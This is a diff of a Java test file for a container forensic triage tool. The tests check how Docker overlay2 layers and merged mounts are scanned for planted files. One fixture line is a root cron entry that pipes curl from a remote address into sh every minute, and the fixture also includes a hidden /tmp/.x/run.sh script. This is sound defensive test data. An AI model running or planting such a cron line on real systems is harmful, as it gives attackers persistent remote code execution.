@@ -47,8 +47,9 @@ final class ContainerTriageTest {
 
     private static List<Finding> triage(Map<String, Object> host) {
         var now = Instant.parse("2026-01-15T12:00:00Z");
-        var triage = new Triage(CaseHost.of(host), "/", now, Options.standard(), Progress.SILENT);
-        return triage.run().findings();
+        return new Triage(CaseHost.of(host), "/", now, Options.standard(), Progress.SILENT, _ -> {})
+                .run()
+                .findings();
     }
 
     @Test
@@ -62,9 +63,6 @@ final class ContainerTriageTest {
         String upper = DOCKER + "/overlay2/a2/diff";
         host.put(upper + "/usr/bin/netd", Map.of("elf", Map.of()));
         host.put(upper + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
-        host.put(
-                DOCKER + "/overlay2/a2/merged/tmp/.x/run.sh",
-                Map.of("text", SCRIPT, "mode", "0755"));
         host.put(upper + "/etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x | sh\n");
         var findings = triage(host);
         assertThat(findings)
@@ -85,6 +83,47 @@ final class ContainerTriageTest {
                 .containsEntry("davy.host_path", upper + "/tmp/.x/run.sh");
         assertThat(script.entities()).contains(Entity.file(upper + "/tmp/.x/run.sh"));
         assertThat(findings.toString()).doesNotContain("shipped").doesNotContain("/usr/bin/tool");
+    }
+
+    /// Beside the container's own layer, where Docker mounts all of them as one.
+    private static List<Object> inMerged(Map<String, Object> host) {
+        String merged = DOCKER + "/overlay2/a2/merged";
+        host.put(merged, Map.of("type", "dir", "device", 61));
+        host.put(merged + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
+        return triage(host).stream()
+                .map(finding -> finding.evidence().get("file.path"))
+                .filter(path -> path != null && path.toString().startsWith(merged))
+                .distinct()
+                .toList();
+    }
+
+    private static Map<String, Object> running(String mount) {
+        var host = host();
+        host.put("kind", "live");
+        host.put("mounts", List.of("98 27 " + mount));
+        return host;
+    }
+
+    @Test
+    void passesOverLayersThatAreMountedAsOne() {
+        String place = DOCKER + "/overlay2/a2/merged rw - overlay overlay rw,lowerdir=l/A";
+        String whole = "0:61 / " + place + ",upperdir=" + DOCKER + "/overlay2/a2/diff";
+        assertThat(inMerged(running(whole))).isEmpty();
+        assertThat(inMerged(running("0:61 / " + place + ",upperdir=a2/diff"))).isEmpty();
+    }
+
+    @Test
+    void looksIntoWhatOnlyHasTheNameOfIt() {
+        String file = DOCKER + "/overlay2/a2/merged/tmp/.x/run.sh";
+        String place = DOCKER + "/overlay2/a2/merged rw - ";
+        assertThat(inMerged(host())).containsExactly(file);
+        for (String other :
+                List.of(
+                        "0:61 / " + place + "tmpfs tmpfs rw",
+                        "0:61 / " + place + "overlay x rw,lowerdir=/a:/b,upperdir=/c",
+                        "0:62 / " + place + "overlay x rw,lowerdir=l/A,upperdir=a2/diff")) {
+            assertThat(inMerged(running(other))).as(other).containsExactly(file);
+        }
     }
 
     private static Map<String, Object> withImage(String repository, String name) {
